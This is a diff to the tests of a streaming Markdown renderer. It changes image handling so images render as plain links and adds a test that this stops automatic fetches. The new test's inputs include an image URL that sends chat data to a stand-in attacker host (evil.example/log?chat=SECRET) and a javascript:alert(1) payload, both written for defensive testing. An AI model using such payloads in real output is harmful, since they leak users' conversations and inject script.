@@ -87,7 +87,6 @@ def test_streamed_parts_equal_a_one_shot_render(text_and_deltas: tuple[str, list
             appended.append(step.blocks)
             # At every step, finished blocks + tail are exactly the one-shot render of the text so far.
             assert "".join(appended) + step.tail == render_markdown(fed)
-            assert md.html() == render_markdown(fed)
     last = md.finish()
     appended.append(last.blocks)
     assert last.tail == ""
@@ -148,7 +147,7 @@ def test_safe_markdown_renders_fully() -> None:
     assert '<th style="text-align:left">left</th>' in html
     assert "<pre><code class=\"language-python\">print('&lt;hi&gt;')\n</code></pre>" in html
     assert '<a href="https://example.com" rel="noopener noreferrer">docs</a>' in html
-    assert '<img src="https://example.com/i.png" alt="alt">' in html
+    assert '<a href="https://example.com/i.png" rel="noopener noreferrer">alt</a>' in html  # images are links
 
 
 def test_reference_definitions_stay_literal_text() -> None:
@@ -189,4 +188,11 @@ def test_split_crlf_counts_as_one_newline() -> None:
     md = StreamingMarkdown()
     for delta in ["para one\r", "\n\r", "\npara two\r", "\n"]:
         md.feed(delta)
-    assert md.html() + md.finish().blocks == render_markdown("para one\n\npara two\n")
+    assert md.finish().blocks == render_markdown("para one\n\npara two\n")
+
+
+def test_images_become_links_so_nothing_is_fetched_without_a_click() -> None:
+    html = render_markdown("![chart](https://evil.example/log?chat=SECRET) ![x](javascript:alert(1))")
+    assert "<img" not in html
+    assert '<a href="https://evil.example/log?chat=SECRET" rel="noopener noreferrer">chart</a>' in html
+    assert 'href="javascript' not in html  # markdown-it refuses the link; it stays plain text
